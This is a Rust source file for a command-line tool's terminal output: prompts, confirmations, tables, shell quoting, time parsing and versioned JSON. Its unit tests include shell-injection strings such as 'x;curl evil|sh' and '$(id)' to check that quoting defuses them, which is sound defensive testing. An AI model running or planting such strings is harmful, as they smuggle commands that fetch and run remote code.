//! What commands say to an operator at a terminal and to a script: questions, confirmations, tables, wrong usage.
//!
//! Questions go to standard error, so that standard output stays what a pipe expects. Nothing here has colors, and
//! `NO_COLOR` has nothing to take away.

use crate::config::{Config, DatabaseUrl};
use crate::failure::{Failure, Source};
use crate::keys;
use crate::protocol::shown::{harmless, harmless_lines, is_harmful};
use crate::protocol::time::NumericDate;
use crate::store::db::Db;
use crate::store::migrations::Migrations;
use std::io::{BufRead as _, IsTerminal as _, Read as _, Write as _};
use std::path::Path;

/// The text of a file that an operator names, or with - of standard input.
pub(super) fn read_text(file: &Path) -> Result<String, Failure> {
    if file.as_os_str() == "-" {
        let mut text = String::new();
        std::io::stdin().read_to_string(&mut text).map_err(|error| Failure::at("standard input", error))?;
        return Ok(text);
    }
    std::fs::read_to_string(file).map_err(|error| Failure::at(file.display(), error))
}

/// Whether an operator is there to be asked.
pub(super) fn is_there() -> bool {
    std::io::stdin().is_terminal() && std::io::stderr().is_terminal()
}

/// Asks for a line. An empty one takes the default; without a default it stays empty.
pub(super) fn ask(question: &str, default: Option<&str>) -> Result<String, Failure> {
    let fault = |error: std::io::Error| Failure::at("the terminal", error);
    let mut asked = std::io::stderr().lock();
    match default {
        Some(default) => write!(asked, "{question} [{default}]: "),
        None => write!(asked, "{question}: "),
    }
    .and_then(|()| asked.flush())
    .map_err(fault)?;
    let mut line = String::new();
    if std::io::stdin().lock().read_line(&mut line).map_err(fault)? == 0 {
        let _ = writeln!(asked);
        return Err(Failure::new("the answers ended; nothing was changed"));
    }
    let answer = line.trim();
    Ok(if answer.is_empty() { default.unwrap_or_default().to_owned() } else { answer.to_owned() })
}

/// Asks until the answer is one that `read` takes; what it refuses is said and asked again.
pub(super) fn ask_until<T>(
    question: &str,
    default: Option<&str>,
    read: impl Fn(&str) -> Result<T, Failure>,
) -> Result<T, Failure> {
    loop {
        match read(&ask(question, default)?) {
            Ok(value) => return Ok(value),
            Err(failure) => eprintln!("  {}", failure.told()),
        }
    }
}

/// Reads yes or no.
pub(super) fn yes_or_no(text: &str) -> Result<bool, Failure> {
    match text.to_lowercase().as_str() {
        "y" | "yes" => Ok(true),
        "n" | "no" => Ok(false),
        _ => Err(Failure::new("answer yes or no")),
    }
}

/// Asks before something is lost; `yes` is the flag `--yes`. A script must give it.
pub(super) fn confirm(path: &[&str], what: &str, yes: bool) -> Result<(), Failure> {
    if yes {
        return Ok(());
    }
    if !is_there() {
        wrong_usage(path, "--yes is missing: there is no terminal to ask at whether you mean it");
    }
    if ask_until(&format!("{what} (yes, no)"), Some("no"), yes_or_no)? {
        Ok(())
    } else {
        Err(Failure::new("nothing was changed"))
    }
}

/// Ends with status 2 and how the command is used.
pub(super) fn wrong_usage(path: &[&str], message: &str) -> ! {
    let mut found = super::command();
    found.build();
    for name in path {
        if let Some(inner) = found.find_subcommand(name) {
            found = inner.clone();
        }
    }
    found.error(clap::error::ErrorKind::MissingRequiredArgument, message).exit()
}

/// Rows under their headings, in columns as wide as they need; the last one is not padded, and an empty cell is `-`, so
/// that `awk` finds each column where it belongs.
pub(super) fn table(headings: &[&str], rows: &[Vec<String>]) -> String {
    let rows: Vec<Vec<&str>> = rows
        .iter()
        .map(|row| row.iter().map(|cell| if cell.is_empty() { "-" } else { cell.as_str() }).collect())
        .collect();
    let width = |at: usize| {
        let cells = rows.iter().filter_map(|row| row.get(at)).map(|cell| cell.chars().count());
        cells.chain(headings.get(at).map(|heading| heading.chars().count())).max().unwrap_or_default()
    };
    let widths: Vec<usize> = (0..headings.len()).map(width).collect();
    let mut text = String::new();
    let mut line = |cells: &[&str]| {
        let mut padded = String::new();
        for (cell, width) in cells.iter().zip(&widths) {
            let _ = std::fmt::Write::write_fmt(&mut padded, format_args!("{cell:<width$}  "));
        }
        text.push_str(padded.trim_end());
        text.push('\n');
    };
    line(headings);
    for row in &rows {
        line(row);
    }
    text
}

/// One line of text as a terminal may show it: what would steer it, a line break too, becomes a blank.
pub(super) fn one_line(text: &str) -> String {
    text.replace(is_harmful, " ")
}

/// A word as a shell takes it, to be copied from a fix: nothing in it means anything to the shell.
pub(super) fn shell(text: &str) -> String {
    let text = one_line(text);
    let is_plain =
        |c: char| c.is_ascii_alphanumeric() || matches!(c, '@' | '%' | '+' | '=' | ':' | ',' | '.' | '/' | '_' | '-');
    if !text.is_empty() && text.chars().all(is_plain) { text } else { format!("'{}'", text.replace('\'', "'\\''")) }
}

/// Says where the next part of a list starts, if there is one.
pub(super) fn say_next(next: Option<&str>) {
    if let Some(next) = next {
        eprintln!("There are more: --after {}", one_line(next));
    }
}

/// An instant as operators and `--ends-at` write it: `2026-12-01T00:00:00Z`.
pub(super) fn instant(at: NumericDate) -> String {
    jiff::Timestamp::from_second(at.0).map_or_else(|_| at.to_string(), |timestamp| timestamp.to_string())
}

/// Reads an instant as `instant` writes it.
pub(super) fn parse_instant(text: &str) -> Result<NumericDate, String> {
    keys::parse_instant(&text.replace(':', "")).ok_or_else(|| "write it as 2026-12-01T00:00:00Z".to_owned())
}

/// Reads a span of time, such as `7d`, `24h`, `15m` or `90s`, in seconds; 0 needs no unit, and a hundred years are the most.
pub(super) fn parse_span(text: &str) -> Result<i64, String> {
    const MOST: i64 = 100 * 366 * 86_400;
    let fault = || "write it as 7d, 24h, 15m or 90s, or 0".to_owned();
    let (number, unit) = text.split_at(text.find(|c: char| !c.is_ascii_digit()).unwrap_or(text.len()));
    let number: i64 = number.parse().map_err(|_| fault())?;
    let factor = match unit {
        "" if number == 0 => 1,
        "s" => 1,
        "m" => 60,
        "h" => 3600,
        "d" => 86_400,
        _ => return Err(fault()),
    };
    number.checked_mul(factor).filter(|seconds| *seconds <= MOST).ok_or_else(fault)
}

/// The version of every JSON document that a command prints: it grows when a member is renamed, goes, or means something else;
/// one that is added changes nothing.
const JSON_VERSION: u32 = 1;

/// An object with the version of its form.
fn versioned(document: &serde_json::Value) -> serde_json::Value {
    let mut document = document.clone();
    document["version"] = JSON_VERSION.into();
    document
}

/// `--json`, for a command that does something and says what it did.
#[derive(Clone, Copy, clap::Args)]
pub(super) struct Report {
    /// Print what was done as a JSON object
    #[arg(long)]
    json: bool,
}

impl Report {
    /// Whether standard output is for a JSON object.
    pub(super) const fn is_json(self) -> bool {
        self.json
    }

    /// Prints the object where it is wanted; else the text, which is what a pipe gets without `--json`, if there is one.
    pub(super) fn print(self, document: &serde_json::Value, text: Option<&str>) -> Result<(), Failure> {
        match text {
            _ if self.json => print_json(document)?,
            Some(text) => println!("{text}"),
            None => {}
        }
        Ok(())
    }
}

/// Reads a document that a command printed and an operator kept. `None`: it is none, or of a form that this version does not
/// know.
pub(super) fn read_json(text: &str) -> Option<serde_json::Value> {
    let document: serde_json::Value = serde_json::from_str(text).ok()?;
    (document.get("version")?.as_u64() == Some(JSON_VERSION.into())).then_some(document)
}

/// Prints one JSON object, with the version of its form.
pub(super) fn print_json(document: &serde_json::Value) -> Result<(), Failure> {
    let text = serde_json::to_string_pretty(&versioned(document));
    println!("{}", harmless_lines(&text.map_err(not_json)?));
    Ok(())
}

/// One line of many: a JSON object with the version of its form.
pub(super) fn json_line(document: &impl serde::Serialize) -> Result<String, Failure> {
    let line = Line { version: JSON_VERSION, document };
    serde_json::to_string(&line).map(|text| harmless(&text).into_owned() + "\n").map_err(not_json)
}

/// Why there is no hash of a secret or of a password.
pub(super) fn not_hashed(error: impl Into<Source>) -> Failure {
    Failure::new("the hash cannot be computed").with_source(error)
}

/// Why something cannot be printed as JSON.
pub(super) fn not_json(error: serde_json::Error) -> Failure {
    Failure::new("this cannot be written as JSON").with_source(error)
}

/// Reads such a line. `None`: it is none, or of a form that this version does not know.
pub(super) fn read_line<T: serde::de::DeserializeOwned>(text: &str) -> Option<T> {
    let line: Line<T> = serde_json::from_str(text).ok()?;
    (line.version == JSON_VERSION).then_some(line.document)
}

#[derive(serde::Serialize, serde::Deserialize)]
struct Line<T> {
    version: u32,
    #[serde(flatten)]
    document: T,
}

/// Opens the database that is there, for a command that only looks or changes a row: it makes none and applies nothing.
pub(super) async fn open_database(config: &Config) -> Result<Db, Failure> {
    must_exist(config)?;
    let db = Db::open(&config.database_url).await?;
    // Only the tables of this version are asked for; the files of the admin may wait for their own time.
    let built_in = Migrations::read(None).await?;
    let plan = built_in.plan(&db).await?;
    if let Some(failure) = plan.unreleased() {
        return Err(failure);
    }
    if plan.pending.is_empty() {
        return Ok(db);
    }
    let pending = plan.pending.len();
    let what = format!("the database is older than this version: {pending} of its migrations are pending");
    Err(Failure::new(what).with_fix("hallpass migrate"))
}

/// Sees to it that there is a database, for a command that is not to make one.
pub(super) fn must_exist(config: &Config) -> Result<(), Failure> {
    match &config.database_url {
        DatabaseUrl::Sqlite(path) if !path.exists() => {
            Err(Failure::new(format!("{}: there is no database yet", path.display()))
                .with_fix("`hallpass migrate` makes it, or set HALLPASS_DATABASE_URL to the one that serves"))
        }
        _ => Ok(()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_table_is_as_wide_as_its_widest_cells() {
        let rows = [vec!["a".to_owned(), "é".to_owned()], vec!["long".to_owned(), String::new()]];
        assert_eq!(table(&["ID", "NAME"], &rows), "ID    NAME\na     é\nlong  -\n");
    }

    #[test]
    fn what_would_steer_a_terminal_is_blank() {
        assert_eq!(one_line("a\u{1b}[2Jb\r\nc\u{202e}d"), "a [2Jb  c d");
    }

    #[test]
    fn a_word_in_a_fix_means_nothing_to_a_shell() {
        for (word, safe) in [
            ("alice@example.com", "alice@example.com"),
            ("Ivan İnci", "'Ivan İnci'"),
            ("x;curl evil|sh", "'x;curl evil|sh'"),
            ("it's $(id)", "'it'\\''s $(id)'"),
            ("", "''"),
        ] {
            assert_eq!(shell(word), safe);
        }
    }

    #[test]
    fn a_span_of_time_has_a_unit() {
        for (text, expected) in
            [("7d", 604_800), ("24h", 86_400), ("15m", 900), ("90s", 90), ("0", 0), ("0d", 0), ("4000d", 345_600_000)]
        {
            assert_eq!(parse_span(text), Ok(expected), "{text}");
        }
        for bad in ["", "s", "7", "-1d", "1.5h", "7w", "d7", "é", "7 d", "99999d", "99999999999999999d"] {
            assert!(parse_span(bad).is_err(), "{bad}");
        }
    }

    #[test]
    fn an_instant_is_written_as_people_write_it() {
        assert_eq!(instant(NumericDate(1_796_083_200)), "2026-12-01T00:00:00Z");
    }
}
